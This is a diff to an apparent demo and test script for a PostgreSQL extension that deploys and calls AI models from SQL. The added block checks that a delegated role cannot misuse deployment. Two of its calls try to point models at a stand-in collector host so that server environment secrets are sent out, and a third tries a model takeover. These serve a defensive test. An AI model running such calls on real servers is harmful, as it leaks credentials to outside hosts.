@@ -10,7 +10,7 @@ SELECT task, count(*) AS models FROM ai_supported_models() GROUP BY task ORDER B
 SELECT model_type, params, dimensions, default_dimension, max_inputs_per_request
   FROM ai_supported_models() WHERE task = 'embedding' AND model_type LIKE 'text-%';
 
-\echo '\n-- A DBA deploys three models once (keys stay in a table only the owner can read)'
+\echo '\n-- A DBA deploys three models once (literal keys are stored sealed with the cluster master key)'
 SELECT ai_deploy_model('chat', 'qwen-plus', 'env:PG_BAILIAN_DEMO_KEY',
        params   => '{"temperature": 0.3, "system": "You are a concise assistant."}',
        base_url => :'base_url');
@@ -21,6 +21,7 @@ SELECT ai_deploy_model('translator', 'qwen-mt-plus', 'sk-demo0123456789abcdef',
 SELECT ai_deploy_model('embedder', 'text-embedding-v4', 'sk-demo0123456789abcdef',
        params   => '{"dimension": 256}', max_retries => 3, base_url => :'base_url');
 SELECT model_name, model_type, task, key_hint, params, endpoint FROM ai_models ORDER BY model_name;
+SELECT model_name, left(api_key, 24) || '...' AS stored_key FROM bailian.model_keys ORDER BY model_name;
 
 \echo '\n-- Anyone then calls the models from SQL; the data never leaves the database tier'
 CREATE TABLE reviews (id int PRIMARY KEY, body text);
@@ -64,4 +65,15 @@ SELECT ord, response, error FROM ai_gen_batch('chat', ARRAY['first prompt', NULL
 \set VERBOSITY verbose
 SELECT ai_embed('chat', 'wrong task');
 SELECT ai_gen('chat', 'hot', '{"temperature": 5}');
+
+\echo '\n-- Deploying can be delegated; the delegate cannot read the server environment or take over models'
+DROP ROLE IF EXISTS demo_deployer;
+CREATE ROLE demo_deployer;
+GRANT EXECUTE ON FUNCTION ai_deploy_model(text, text, text, jsonb, int, float8, float8, float8, text, text, boolean, int, int)
+   TO demo_deployer;
+SET ROLE demo_deployer;
+SELECT ai_deploy_model('leak', 'qwen-plus', 'env:HOME', base_url => 'https://collector.example.com/v1');
+SELECT ai_deploy_model('leak', 'qwen-plus', 'env:PG_BAILIAN_DEMO_KEY', base_url => 'https://collector.example.com/v1');
+SELECT ai_deploy_model('chat', 'qwen-max', 'env:PG_BAILIAN_DEMO_KEY', replace => true);
+RESET ROLE;
 \set VERBOSITY default
